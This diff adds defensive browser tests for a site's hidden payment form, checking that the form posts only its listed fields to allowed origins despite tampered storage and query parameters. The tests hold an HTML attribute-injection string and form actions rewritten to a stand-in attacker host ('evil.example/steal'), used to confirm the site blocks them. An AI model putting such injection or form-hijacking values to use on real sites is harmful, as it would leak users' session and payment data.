@@ -1,0 +1,113 @@
+import { readdir, readFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import type { BrowserContext, Page } from 'playwright-core';
+import { describe, expect, it } from 'vitest';
+import { formOrigins } from '../../src/generated/origins.ts';
+import { ROOT, serveSite } from '../support/site.ts';
+import { storedSession } from './support/account.ts';
+
+const site = serveSite();
+const INJECTED = '"><input name="x" value="1"><input name="';
+const payment = (page: Page) => page.locator('#pagos li', { hasText: 'NYK' }).getByRole('button').first();
+
+/** Opens the page with the payments as somebody whose browser keeps this. */
+async function opened(kept: object, more: Readonly<Record<string, string>> = {}) {
+  const visitor = await site.visit();
+  await visitor.context.route(/^https:\/\/[^/?]*example/, (route) => route.fulfill({ body: 'ok' }));
+  await visitor.context.addInitScript(
+    (entries) => {
+      for (const [key, value] of entries) localStorage.setItem(key, value);
+    },
+    Object.entries({ userData: JSON.stringify(kept), ...more }),
+  );
+  return visitor;
+}
+
+/** Where the form went, and the fields in the order in which they were sent. */
+async function posted(context: BrowserContext, page: Page) {
+  const request = context.waitForEvent('request', (candidate) => candidate.method() === 'POST');
+  await payment(page).click();
+  const sent = await request;
+  return { origin: new URL(sent.url()).origin, fields: [...new URLSearchParams(sent.postData() ?? '')] };
+}
+
+describe('55: a hidden form', () => {
+  it('posts its listed fields and no other, to its own address, whatever the browser keeps', async () => {
+    const session = await storedSession(site, '900000051');
+    const foreign = {
+      url: 'https://evil.example',
+      action: 'https://evil.example',
+      fields: [{ name: 'x', value: '1' }],
+    };
+    const kept = { ...session, ...foreign, nit: INJECTED, nitsistema: INJECTED, PTWEB_NIT: '1', PACCION: 'X' };
+    const more = { preferredLine: 'https://evil.example', action: 'https://evil.example' };
+    const { page, context, complaints } = await opened(kept, more);
+    // As if the server could not be asked whose session it is.
+    await context.route('**/api/sesion', (route) => route.abort());
+    await page.goto('/tramites-y-consultas?action=https://evil.example&PTWEB_NIT=1&url=//evil.example', {
+      waitUntil: 'networkidle',
+    });
+    expect(await page.locator('input[name="x"]').count()).toBe(0);
+    expect(await posted(context, page)).toEqual({
+      origin: formOrigins[0],
+      fields: [
+        ['PACCION', 'M'],
+        ['PTWEB_NIT', INJECTED],
+        ['PTWEB_NITSISTEMA', INJECTED],
+      ],
+    });
+    complaints.length = 0;
+    await context.close();
+  });
+
+  it('names the client whom the server knows the session of, and not whom the browser was made to name', async () => {
+    const session = await storedSession(site, '900000052');
+    const { page, context } = await opened({ ...session, nit: '800999999', nitsistema: '1', perfil: 'x' });
+    const told = page.waitForResponse('**/api/sesion');
+    await page.goto('/tramites-y-consultas');
+    await told;
+    const kept = () => page.evaluate(() => JSON.parse(localStorage.getItem('userData') ?? '{}'));
+    await expect.poll(kept).toEqual(session);
+    expect((await posted(context, page)).fields).toEqual([
+      ['PACCION', 'M'],
+      ['PTWEB_NIT', session.nit],
+      ['PTWEB_NITSISTEMA', session.nitsistema],
+    ]);
+    await context.close();
+  });
+
+  it('whose address was changed in the page goes nowhere', async () => {
+    const { page, context, complaints } = await opened(await storedSession(site, '900000053'));
+    const asked: string[] = [];
+    context.on('request', (request) => asked.push(request.url()));
+    await page.goto('/tramites-y-consultas', { waitUntil: 'networkidle' });
+    await payment(page).evaluate((button: HTMLButtonElement) => {
+      button.form?.setAttribute('action', 'https://evil.example/steal');
+      button.form?.setAttribute('target', '_self');
+      button.click();
+    });
+    await expect
+      .poll(() => complaints.join('\n'))
+      .toContain('violates the following Content Security Policy directive: "form-action');
+    expect(asked.filter((url) => url.includes('evil.example'))).toEqual([]);
+    complaints.length = 0;
+    await context.close();
+  });
+});
+
+it('55: no page holds a form to another address than the listed ones, or one that opens a tab which can reach back', async () => {
+  const folder = join(ROOT, 'dist/site/pages');
+  const files = (await readdir(folder, { recursive: true })).filter((name) => name.endsWith('.html'));
+  let forms = 0;
+  for (const file of files) {
+    for (const [form] of (await readFile(join(folder, file), 'utf8')).matchAll(/<form\b[^>]*>/g)) {
+      const action = /\saction="([^"]*)"/.exec(form)?.[1];
+      if (action === undefined || action.startsWith('/')) continue;
+      forms++;
+      expect([file, formOrigins.includes(new URL(action).origin), action]).toEqual([file, true, action]);
+      expect([file, action.startsWith('https://')]).toEqual([file, true]);
+      if (form.includes('target="_blank"')) expect(form).toContain('rel="noopener"');
+    }
+  }
+  expect(forms).toBeGreaterThan(20);
+});
